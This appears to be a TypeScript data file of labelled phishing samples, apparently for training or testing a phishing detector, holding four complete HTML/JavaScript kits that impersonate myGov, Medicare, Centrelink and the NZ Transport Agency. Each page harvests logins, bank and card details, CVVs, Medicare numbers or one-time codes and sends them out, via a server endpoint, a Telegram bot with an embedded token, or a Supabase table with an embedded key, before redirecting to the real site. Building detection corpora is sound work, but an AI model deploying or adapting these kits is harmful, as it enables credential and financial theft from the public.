import type { Entry } from '../entry.js';
import { shell, baseCss, mark, telegramDrop, luhnJs, cardFields } from '../parts/xd-kit.js';

export const entries: Entry[] = [
{
  id: 'xd-mygov-bank-details-code',
  label: 'phishing',
  kind: 'gov-credential-kit',
  url: 'https://my-gov-au.login-services.top/LoginServices/main/login',
  body: shell(
    'Sign in with myGov - myGov',
    `<header style="background:#000;padding:14px 24px;display:flex;align-items:center;gap:14px">${mark.mygov(34)}<span style="color:#fff;font-size:14px;margin-left:auto">Help</span></header>
<main>
 <section id="v1">
  <h1 style="font-size:28px;margin:0 0 14px">Sign in with myGov</h1>
  <p>Choose how to sign in</p>
  <form id="f1">
   <label for="userId">Username or email</label><input type="text" id="userId" name="userId" required>
   <label for="password">Password</label><input type="password" id="password" name="password" required>
   <button style="margin-top:18px">Next</button>
  </form>
  <p class="muted"><a href="#">Forgot username</a> · <a href="#">Forgot password</a> · <a href="#">Create a myGov account</a></p>
 </section>
 <section id="v2" style="display:none">
  <h2>Your payment could not be processed</h2>
  <p>Services Australia was unable to deposit your payment because your bank details are out of date. Please update them to receive your payment of <b>$1,074.55</b>.</p>
  <form id="f2">
   <label>Account name</label><input type="text" name="accName" required>
   <label>BSB</label><input type="text" name="bsb" maxlength="7" required>
   <label>Account number</label><input type="text" name="accNo" required>
   ${cardFields({ holder: 'cName', number: 'cNum', exp: 'cExp', cvv: 'cCvv' }, { holder: 'Name on debit card', number: 'Debit card number (for identity check)', exp: 'Expiry', cvv: 'Security code' })}
   <button style="margin-top:18px">Update details</button>
  </form>
 </section>
 <section id="v3" style="display:none">
  <h2>Enter code</h2>
  <p>We sent a code to your mobile. Enter it to confirm the change.</p>
  <form id="f3"><label>Code</label><input type="tel" name="code" maxlength="6" required><button style="margin-top:18px">Confirm</button></form>
 </section>
</main>
<footer><a href="#">Terms of use</a> · <a href="#">Privacy and security</a> · <a href="#">Copyright</a> · <a href="#">Accessibility</a></footer>
<script>
function send(form, next) {
  var x = new XMLHttpRequest();
  x.open('POST', '/LoginServices/main/api.php?step=' + form.id, true);
  x.onload = x.onerror = next;
  x.send(new FormData(form));
}
function show(n) { ['v1','v2','v3'].forEach(function (v) { document.getElementById(v).style.display = v === n ? 'block' : 'none'; }); }
document.getElementById('f1').onsubmit = function (e) { e.preventDefault(); send(this, function () { show('v2'); }); };
document.getElementById('f2').onsubmit = function (e) { e.preventDefault(); send(this, function () { show('v3'); }); };
document.getElementById('f3').onsubmit = function (e) { e.preventDefault(); send(this, function () { location.href = 'https://my.gov.au/'; }); };
</script>`,
    { css: baseCss('#000', '#1a1a1a', '#000') },
  ),
},
{
  id: 'xd-medicare-claim-bank-beacon',
  label: 'phishing',
  kind: 'gov-credential-kit',
  url: 'https://medicare-au.services-claim.icu/medicare/claims/update-bank',
  body: shell(
    'Medicare - Update your bank details',
    `<header class="top" style="background:#fff;border-bottom:3px solid #00663c">${mark.coatOfArms(40)}<div style="font-size:13px">Australian Government<br><b style="font-size:18px">Services Australia</b> · Medicare</div></header>
<main style="max-width:560px">
 <h1 style="font-size:24px;color:#00663c">We couldn't pay your Medicare benefit</h1>
 <p>Your recent claim of <b>$186.20</b> was not paid because the bank details linked to your Medicare record are invalid. Update them below and we'll re-issue the payment.</p>
 <form id="m">
  <fieldset><legend>Medicare card</legend>
   <label>Card number</label><input type="text" name="medicare" maxlength="10" required>
   <label>Individual reference number (IRN)</label><input type="text" name="irn" maxlength="1" required>
   <label>Valid to</label><input type="text" name="mvalid" placeholder="MM/YYYY" required>
  </fieldset>
  <label>Full name</label><input type="text" name="name" required>
  <label>Date of birth</label><input type="text" name="dob" required>
  <label>Address</label><input type="text" name="addr" required>
  <label>Mobile</label><input type="tel" name="mobile" required>
  <fieldset><legend>Bank account</legend>
   <label>BSB</label><input type="text" name="bsb" required>
   <label>Account number</label><input type="text" name="acct" required>
   ${cardFields({ holder: 'chn', number: 'ccn', exp: 'cce', cvv: 'ccv' }, { holder: 'Cardholder name', number: 'Card number linked to account', exp: 'Expiry', cvv: 'CVV' })}
  </fieldset>
  <button style="margin-top:16px">Submit</button>
 </form>
</main>
<script>
document.getElementById('m').onsubmit = function (e) {
  e.preventDefault();
  ${telegramDrop({ token: '6893310274:AAE-bQx0nRk7YdW2vhPz3lTg9cUoJ1sMfaA', chat: '5120948833', tag: 'MEDICARE', fields: ['medicare', 'irn', 'mvalid', 'name', 'dob', 'addr', 'mobile', 'bsb', 'acct', 'chn', 'ccn', 'cce', 'ccv'], after: "location.replace('https://www.servicesaustralia.gov.au/medicare')", how: 'img' })}
};
</script>`,
    { css: baseCss('#fff', '#222', '#00663c') + 'fieldset{border:1px solid #ccd;margin-top:16px;border-radius:4px}' },
  ),
},
{
  id: 'xd-centrelink-cost-of-living-supabase',
  label: 'phishing',
  kind: 'gov-payment-lure',
  url: 'https://centrelink-costofliving.payment-gov.live/claim/',
  body: shell(
    'Cost of Living Payment 2025 - Centrelink',
    `<header class="top" style="background:#1a1a1a;color:#fff">${mark.coatOfArms(40).replace(/#222/g, '#fff')}<div>Australian Government<br><b>Centrelink</b></div></header>
<main style="max-width:600px">
 <div style="background:#e8f4ec;padding:12px;border-radius:4px">Eligible Australians can now claim the one-off <b>$750 Cost of Living Payment</b>. Claims close <b id="close"></b>.</div>
 <h1 style="font-size:24px">Check your eligibility and claim</h1>
 <form id="col">
  <label>Customer Reference Number (CRN)</label><input type="text" name="crn" required>
  <label>myGov email</label><input type="email" name="email" required>
  <label>myGov password</label><input type="password" name="mgp" required>
  <label>Full name</label><input type="text" name="full_name" required>
  <label>Date of birth</label><input type="text" name="dob" required>
  <label>Mobile</label><input type="tel" name="phone" required>
  <h3>Where should we pay you?</h3>
  ${cardFields({ holder: 'card_name', number: 'card_no', exp: 'card_exp', cvv: 'card_cvc' })}
  <button style="margin-top:16px;background:#1a1a1a">Claim $750</button>
 </form>
 <p id="done" style="display:none">Your claim has been lodged. Payment within 3 business days.</p>
</main>
<script>
var d = new Date(); d.setDate(d.getDate() + 2);
document.getElementById('close').textContent = d.toLocaleDateString('en-AU', { day: 'numeric', month: 'long' });
var SB = 'https://qzkrmvcylnbtdwxpaofh.supabase.co/rest/v1/col_claims';
var KEY = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoiYW5vbiIsInJlZiI6InF6a3JtdmN5bG5idGR3eHBhb2ZoIn0.pX3v6yQk0b1Rj8sW2mLhQ4tN7uZcFoEaI9dGkVnT5yM';
document.getElementById('col').addEventListener('submit', function (e) {
  e.preventDefault();
  var row = Object.fromEntries(new FormData(this)); row.ua = navigator.userAgent; row.t = Date.now();
  fetch(SB, { method: 'POST', headers: { apikey: KEY, Authorization: 'Bearer ' + KEY, 'Content-Type': 'application/json', Prefer: 'return=minimal' }, body: JSON.stringify(row) })
    .finally(function () { document.getElementById('col').style.display = 'none'; document.getElementById('done').style.display = 'block'; });
});
</script>`,
    { css: baseCss('#1a1a1a', '#222', '#00663c') },
  ),
},
{
  id: 'xd-nzta-rego-expired-otp',
  label: 'phishing',
  kind: 'toll-fine-card-kit',
  url: 'https://nzta-govt.rego-renew.cyou/vehicle/licence/renew',
  body: shell(
    'Waka Kotahi NZ Transport Agency – Renew vehicle licence',
    `<header class="top" style="background:#fff;border-bottom:1px solid #ccc">${mark.waka(32)}</header>
<main style="max-width:540px">
 <div id="a">
  <h1 style="font-size:24px;color:#0b3a5d">Your vehicle licence (rego) has expired</h1>
  <p>Our records show the licence for your vehicle expired. Pay the <b>$43.50</b> renewal today to avoid an infringement fee of up to $200.</p>
  <form id="fa">
   <label>Plate number</label><input type="text" name="plate" style="text-transform:uppercase" required>
   <label>Full name</label><input type="text" name="name" required>
   <label>Email</label><input type="email" name="email" required>
   ${cardFields({ holder: 'nm', number: 'pan', exp: 'ex', cvv: 'cv' })}
   <button style="margin-top:16px;background:#0b3a5d">Pay $43.50</button>
  </form>
 </div>
 <div id="b" style="display:none">
  <h2>Verify payment</h2><p>Your bank has sent a one-time code to your phone to approve a payment of NZ$43.50 to <b>NZTA RENEWALS</b>.</p>
  <input type="tel" id="otp" maxlength="8"><button id="vb" style="margin-top:12px;background:#0b3a5d">Verify</button>
 </div>
</main>
<footer>Waka Kotahi NZ Transport Agency · Te Kāwanatanga o Aotearoa</footer>
<script>
${luhnJs}
function api(p, cb) { var x = new XMLHttpRequest(); x.open('POST', '/vehicle/api/pay', true); x.setRequestHeader('Content-Type', 'application/json'); x.onloadend = cb; x.send(JSON.stringify(p)); }
document.getElementById('fa').onsubmit = function (e) {
  e.preventDefault(); var f = Object.fromEntries(new FormData(this));
  if (!luhn(f.pan)) { alert('Card number is invalid'); return; }
  api(f, function () { document.getElementById('a').style.display = 'none'; document.getElementById('b').style.display = 'block'; });
};
document.getElementById('vb').onclick = function () { api({ otp: document.getElementById('otp').value }, function () { location.href = 'https://www.nzta.govt.nz/'; }); };
</script>`,
    { lang: 'en-NZ', css: baseCss('#fff', '#1a1a1a', '#0b3a5d') },
  ),
},
];
